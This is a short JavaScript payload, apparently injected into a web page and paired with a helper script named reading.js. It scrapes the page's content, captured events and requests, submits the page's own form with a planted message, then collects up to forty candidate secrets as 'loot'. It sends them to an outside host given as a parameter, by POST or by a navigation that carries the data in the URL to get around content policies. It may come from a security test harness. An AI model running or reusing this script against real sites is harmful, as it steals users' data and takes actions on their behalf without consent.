// Follows reading.js. Takes what it can out of the page, then acts through the page's own form.
(async () => {
  const asked = new URL(document.currentScript.src).searchParams;
  const [cell, to, page] = [asked.get("cell"), asked.get("to"), window.top];
  const root = page.document.documentElement.dataset;
  root.ran = cell;

  const heard = reading.listen(page);
  const seen = await reading.look(page);
  const issued = await reading.ask(page);
  page.document.querySelector("#text").value = `ridden in ${cell}`;
  page.document.querySelector("#save").click();
  for (let turn = 0; turn < 100 && !root.saved; turn++) await new Promise((later) => setTimeout(later, 20));

  const loot = reading.candidates(JSON.stringify([seen, heard, issued])).slice(0, 40).join(" ");
  root.done = cell;
  const address = `${to}/collect?cell=${cell}`;
  try {
    await page.fetch(address, { method: "POST", mode: "no-cors", body: loot });
  } catch {
    page.location = `${address}&said=${encodeURIComponent(loot)}`; // no policy stops a navigation
  }
})();
